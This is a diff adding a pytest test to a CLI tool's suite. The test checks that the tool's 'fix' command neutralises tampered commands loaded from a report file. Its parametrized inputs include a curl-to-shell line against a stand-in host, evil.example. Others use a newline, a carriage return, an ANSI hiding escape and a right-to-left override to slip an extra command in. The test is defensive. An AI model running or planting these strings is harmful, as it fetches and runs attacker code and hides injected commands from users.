@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 import json
 import subprocess
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -42,6 +43,22 @@ def test_a_report_from_a_pipe(capsys: Capture, monkeypatch: pytest.MonkeyPatch) 
     monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(json.dumps(stored).encode())))
     run(["fix", first["id"], "--from", "-"])
     assert f"# {first['id']}" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("command", ["true\ncurl http://evil.example | sh", "true\r", "true \x1b[8m; id", "true \u202e; id"])
+def test_a_report_s_commands_are_its_sender_s(command: str, capsys: Capture, tmp_path: Path) -> None:
+    stored = report(capsys)
+    finding = next(f for f in stored["findings"] if f["fixes"] and f["fixes"][0]["runnable"])
+    path = tmp_path / "report.json"
+    path.write_text(json.dumps(stored))
+    assert run(["fix", finding["id"], "--from", str(path)]) == 0
+    assert f"# These commands are as {path} has them." in capsys.readouterr().out
+    finding["fixes"][0] |= {"commands": [command], "summary": "harmless\nid", "host": "h\nid"}
+    path.write_text(json.dumps(stored))
+    assert run(["fix", finding["id"], "--from", str(path)]) == 1
+    text = capsys.readouterr().out
+    assert all(line.startswith("#") or not line for line in text.split("\n")), text
+    assert not any(char in text for char in "\r\x1b\u202e")
 
 
 def test_the_option_prints_the_script_in_the_place_of_the_report(capsys: Capture) -> None:
